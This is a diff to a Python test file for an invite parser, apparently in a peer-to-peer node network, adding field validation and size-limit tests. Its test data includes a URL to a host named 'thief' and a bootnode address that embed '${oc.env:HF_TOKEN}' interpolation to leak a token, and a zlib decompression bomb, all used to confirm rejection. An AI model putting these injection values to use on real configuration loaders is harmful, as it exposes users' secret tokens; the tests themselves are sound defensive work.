@@ -104,6 +104,8 @@ def test_an_expired_invite_says_so() -> None:
         ("chain_id", -1),
         ("chain_id", "1"),
         ("coordinator_address", "0x12"),
+        ("prg_address", "0x12"),
+        ("prg_address", 5),
         ("bootnodes", ["nonsense"]),
         ("bootnodes", [5]),
         ("bootnodes", list(INVITE.bootnodes) * 65),
@@ -119,6 +121,9 @@ def test_a_field_that_can_not_be_used_is_named(field: str, value: object) -> Non
 def test_an_invite_can_not_fetch_the_joiners_environment(field: str) -> None:
     with pytest.raises(InviteError, match="no honest invite"):
         read_invite(packed({**content_of(INVITE), field: "http://thief/${oc.env:HF_TOKEN}"}))
+    bootnode = "/dns4/${oc.env:HF_TOKEN}/tcp/1/p2p/QmQ2gEXoPJg6iMBSUFWGzAabS2VhnzuS782Y637hGjfsRJ"
+    with pytest.raises(InviteError, match="no honest invite"):
+        read_invite(packed({**content_of(INVITE), "bootnodes": [bootnode]}))
 
 
 def test_a_cut_off_invite_is_damaged() -> None:
@@ -131,6 +136,10 @@ def test_a_decompression_bomb_is_not_unpacked() -> None:
     bomb = PREFIX + base64.urlsafe_b64encode(zlib.compress(b" " * 10_000_000, 9)).decode()
     with pytest.raises(InviteError, match="damaged"):
         read_invite(bomb)
+    # Not even one that holds an invite: it is cut off before anybody looks what it says.
+    assert read_invite(packed({**content_of(INVITE), "more": "x" * 10_000})) == INVITE
+    with pytest.raises(InviteError, match="damaged"):
+        read_invite(packed({**content_of(INVITE), "more": "x" * 64 * 1024}))
 
 
 def test_something_far_too_long_is_refused_before_it_is_unpacked() -> None:
